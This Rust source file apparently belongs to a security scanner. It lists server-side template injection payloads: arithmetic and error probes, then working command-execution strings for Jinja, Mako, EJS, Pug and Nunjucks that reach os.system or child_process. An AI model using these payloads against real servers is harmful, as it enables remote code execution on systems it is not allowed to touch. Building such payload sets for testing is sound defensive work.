//! Payloads for text that is used as the source of a template.
//!
//! The first four are the probes: together they are seen in every engine of
//! `tests/payloads/template.rs`. 7 × 191 stands beside the nonce, so 1337 there was computed.
//! The error probe is the polyglot of Hackmanit's template injection table (Apache-2.0).

use super::{Effect, Payload, PayloadClass};

const fn probe(id: &'static str, template: &'static str, effect: Effect, why: &'static str) -> Payload {
    Payload::new(PayloadClass::Template, id, template, effect, why)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    probe(
        "template-arithmetic",
        "{C}{{7*191}}{C}${7*191}{C}#{7*191}{C}<%= 7*191 %>",
        Effect::Output("{C}1337"),
        "most engines know one of these four delimiters and print the others",
    ),
    probe(
        "template-error",
        "<%'${{/#{@}}%>{{{C}",
        Effect::Disturbs,
        "every engine stumbles over one of these: an error, or output that lacks a part",
    ),
    probe(
        "template-dollar",
        "{C}${7*191}",
        Effect::Output("{C}1337"),
        "Mako and Velocity-like engines that stumble over the other delimiters",
    ),
    probe(
        "template-equals",
        "{C}{{=7*191}}",
        Effect::Output("{C}1337"),
        "doT and its relatives print with an =",
    ),
    probe(
        "template-velocity",
        "#set($x=7*191){C}$x",
        Effect::Output("{C}1337"),
        "Velocity computes in #set only",
    ),
    probe(
        "template-jinja",
        "{{cycler.__init__.__globals__.os.system('{C}')}}",
        Effect::Command,
        "Jinja's own classes have os among their globals",
    ),
    probe("template-mako", "${__import__('os').system('{C}')}", Effect::Command, "Mako evaluates Python"),
    probe(
        "template-ejs",
        "<%=process.getBuiltinModule('child_process').spawnSync('{C}')%>",
        Effect::Command,
        "EJS, Eta, Lodash and Underscore evaluate JavaScript; Node 20.16 and later",
    ),
    probe(
        "template-pug",
        "#{process.getBuiltinModule('child_process').spawnSync('{C}')}",
        Effect::Command,
        "Pug evaluates JavaScript; Node 20.16 and later",
    ),
    probe(
        "template-nunjucks",
        "{{range.constructor('return process.getBuiltinModule(\"child_process\").spawnSync(\"{C}\")')()}}",
        Effect::Command,
        "the constructor of any function of Nunjucks is our Function; Node 20.16 and later",
    ),
];
